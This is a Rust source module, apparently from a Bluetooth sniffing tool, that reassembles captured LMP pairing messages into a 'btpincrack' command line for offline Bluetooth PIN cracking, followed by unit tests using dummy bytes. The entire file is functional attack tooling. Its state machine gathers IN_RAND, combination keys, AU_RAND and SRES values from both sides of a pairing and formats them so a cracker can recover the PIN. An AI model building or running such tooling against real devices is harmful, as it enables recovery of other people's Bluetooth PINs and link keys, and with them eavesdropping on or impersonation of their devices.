//! Pairing observer (spec.md §4.6).
//!
//! A gated, ordered state machine that watches LMP opcodes from both link
//! ends and reassembles the seven-artifact PIN transcript `btpincrack`
//! needs, emitting a ready-to-run command line once every slot is filled.

use crate::lmp::{LMP_AU_RAND, LMP_COMB_KEY, LMP_IN_RAND, LMP_SRES};
use crate::mac::MacAddress;
use crate::util::hex_concat;

const ARMED: u8 = 0x01;
const GOT_IN_RAND: u8 = 0x02;
const GOT_COMB1: u8 = 0x04;
const GOT_COMB2: u8 = 0x08;
const GOT_AU_RAND1: u8 = 0x10;
const GOT_AU_RAND2: u8 = 0x20;
const GOT_SRES1: u8 = 0x40;
const GOT_SRES2: u8 = 0x80;
const ALL_SET: u8 = 0xFF;

const LONG_SLOT: usize = 16;
const SHORT_SLOT: usize = 4;

/// The seven artifacts that make up a recovered PIN transcript (spec.md §3).
#[derive(Debug, Clone, Default)]
pub struct PairingTranscript {
    in_rand: [u8; LONG_SLOT],
    comb_initiator: [u8; LONG_SLOT],
    comb_responder: [u8; LONG_SLOT],
    au_rand_initiator: [u8; LONG_SLOT],
    au_rand_responder: [u8; LONG_SLOT],
    sres_responder: [u8; SHORT_SLOT],
    sres_initiator: [u8; SHORT_SLOT],
    mask: u8,
    /// Which side sent the IN_RAND that started this transcript.
    pm_is_master: bool,
}

fn copy_into(dst: &mut [u8], src: &[u8]) {
    let n = dst.len().min(src.len());
    dst.fill(0);
    dst[..n].copy_from_slice(&src[..n]);
}

impl PairingTranscript {
    pub fn new() -> Self {
        Self {
            mask: ARMED,
            ..Default::default()
        }
    }

    /// Feed one decoded LMP opcode and its parameter bytes into the state
    /// machine. `sender_is_master` is true when the PDU came from the
    /// master side of the link. Returns the `btpincrack` command line once
    /// the transcript is complete; the mask is then reset to just the
    /// armed bit, ready to accumulate the next transcript.
    pub fn observe(
        &mut self,
        opcode: u8,
        sender_is_master: bool,
        body: &[u8],
        master: MacAddress,
        slave: MacAddress,
    ) -> Option<String> {
        match opcode {
            LMP_IN_RAND => {
                self.mask = ARMED | GOT_IN_RAND;
                self.pm_is_master = sender_is_master;
                copy_into(&mut self.in_rand, body);
            }
            LMP_COMB_KEY if self.mask & GOT_IN_RAND != 0 => {
                if sender_is_master == self.pm_is_master {
                    copy_into(&mut self.comb_initiator, body);
                    self.mask |= GOT_COMB1;
                } else {
                    copy_into(&mut self.comb_responder, body);
                    self.mask |= GOT_COMB2;
                }
            }
            LMP_AU_RAND if self.mask & (GOT_COMB1 | GOT_COMB2) == (GOT_COMB1 | GOT_COMB2) => {
                if sender_is_master == self.pm_is_master {
                    copy_into(&mut self.au_rand_initiator, body);
                    self.mask |= GOT_AU_RAND1;
                } else {
                    copy_into(&mut self.au_rand_responder, body);
                    self.mask |= GOT_AU_RAND2;
                }
            }
            LMP_SRES => {
                if sender_is_master != self.pm_is_master && self.mask & GOT_AU_RAND1 != 0 {
                    copy_into(&mut self.sres_responder, body);
                    self.mask |= GOT_SRES1;
                } else if sender_is_master == self.pm_is_master && self.mask & GOT_AU_RAND2 != 0 {
                    copy_into(&mut self.sres_initiator, body);
                    self.mask |= GOT_SRES2;
                }
            }
            _ => {}
        }

        if self.mask == ALL_SET {
            let line = self.render(master, slave);
            self.mask = ARMED;
            Some(line)
        } else {
            None
        }
    }

    fn render(&self, master: MacAddress, slave: MacAddress) -> String {
        let (a, b) = if self.pm_is_master {
            (master, slave)
        } else {
            (slave, master)
        };
        format!(
            "btpincrack Go {a} {b} {} {} {} {} {} {} {}",
            hex_concat(&self.in_rand),
            hex_concat(&self.comb_initiator),
            hex_concat(&self.comb_responder),
            hex_concat(&self.au_rand_initiator),
            hex_concat(&self.au_rand_responder),
            hex_concat(&self.sres_initiator),
            hex_concat(&self.sres_responder),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::test_support::{TEST_MASTER as MASTER, TEST_SLAVE as SLAVE};

    #[test]
    fn test_s5_full_transcript_master_initiated() {
        let mut t = PairingTranscript::new();

        assert!(t
            .observe(LMP_IN_RAND, true, &[0x11; 16], MASTER, SLAVE)
            .is_none());
        assert!(t
            .observe(LMP_COMB_KEY, true, &[0x22; 16], MASTER, SLAVE)
            .is_none());
        assert!(t
            .observe(LMP_COMB_KEY, false, &[0x33; 16], MASTER, SLAVE)
            .is_none());
        assert!(t
            .observe(LMP_AU_RAND, true, &[0x44; 16], MASTER, SLAVE)
            .is_none());
        assert!(t
            .observe(LMP_AU_RAND, false, &[0x55; 16], MASTER, SLAVE)
            .is_none());
        assert!(t
            .observe(LMP_SRES, false, &[0x66; 4], MASTER, SLAVE)
            .is_none());
        let line = t
            .observe(LMP_SRES, true, &[0x77; 4], MASTER, SLAVE)
            .expect("transcript should be complete");

        let expected = format!(
            "btpincrack Go {MASTER} {SLAVE} {} {} {} {} {} {} {}",
            "11".repeat(16),
            "22".repeat(16),
            "33".repeat(16),
            "44".repeat(16),
            "55".repeat(16),
            "77".repeat(4),
            "66".repeat(4),
        );
        assert_eq!(line, expected);
    }

    #[test]
    fn test_mask_resets_after_emit() {
        let mut t = PairingTranscript::new();
        t.observe(LMP_IN_RAND, true, &[0x11; 16], MASTER, SLAVE);
        t.observe(LMP_COMB_KEY, true, &[0x22; 16], MASTER, SLAVE);
        t.observe(LMP_COMB_KEY, false, &[0x33; 16], MASTER, SLAVE);
        t.observe(LMP_AU_RAND, true, &[0x44; 16], MASTER, SLAVE);
        t.observe(LMP_AU_RAND, false, &[0x55; 16], MASTER, SLAVE);
        t.observe(LMP_SRES, false, &[0x66; 4], MASTER, SLAVE);
        let done = t.observe(LMP_SRES, true, &[0x77; 4], MASTER, SLAVE);
        assert!(done.is_some());
        assert_eq!(t.mask, ARMED);
    }

    #[test]
    fn test_no_emission_until_all_seven_present() {
        let mut t = PairingTranscript::new();
        t.observe(LMP_IN_RAND, true, &[0x11; 16], MASTER, SLAVE);
        t.observe(LMP_COMB_KEY, true, &[0x22; 16], MASTER, SLAVE);
        let still_waiting = t.observe(LMP_COMB_KEY, false, &[0x33; 16], MASTER, SLAVE);
        assert!(still_waiting.is_none());
    }

    #[test]
    fn test_slave_initiated_role_symmetry() {
        // Same transcript but the slave sends IN_RAND first: pm == slave,
        // so <A> <B> swaps to slave-then-master and slots 1/2, 3/4, 5/6
        // swap which side fills them.
        let mut t = PairingTranscript::new();
        t.observe(LMP_IN_RAND, false, &[0x11; 16], MASTER, SLAVE);
        t.observe(LMP_COMB_KEY, false, &[0x22; 16], MASTER, SLAVE); // sender==pm -> slot1
        t.observe(LMP_COMB_KEY, true, &[0x33; 16], MASTER, SLAVE); // sender!=pm -> slot2
        t.observe(LMP_AU_RAND, false, &[0x44; 16], MASTER, SLAVE); // sender==pm -> slot3
        t.observe(LMP_AU_RAND, true, &[0x55; 16], MASTER, SLAVE); // sender!=pm -> slot4
        t.observe(LMP_SRES, true, &[0x66; 4], MASTER, SLAVE); // sender!=pm -> slot6
        let line = t
            .observe(LMP_SRES, false, &[0x77; 4], MASTER, SLAVE) // sender==pm -> slot5
            .expect("transcript should be complete");

        assert!(line.starts_with(&format!("btpincrack Go {SLAVE} {MASTER} ")));
    }

    #[test]
    fn test_comb_key_ignored_without_in_rand() {
        let mut t = PairingTranscript::new();
        let result = t.observe(LMP_COMB_KEY, true, &[0x22; 16], MASTER, SLAVE);
        assert!(result.is_none());
        assert_eq!(t.mask, ARMED);
    }

    #[test]
    fn test_sres_role_gating_rejects_premature_sres() {
        let mut t = PairingTranscript::new();
        t.observe(LMP_IN_RAND, true, &[0x11; 16], MASTER, SLAVE);
        // SRES arrives before either AU_RAND: must be ignored, not stored.
        let result = t.observe(LMP_SRES, false, &[0x66; 4], MASTER, SLAVE);
        assert!(result.is_none());
        assert_eq!(t.mask, ARMED | GOT_IN_RAND);
    }
}
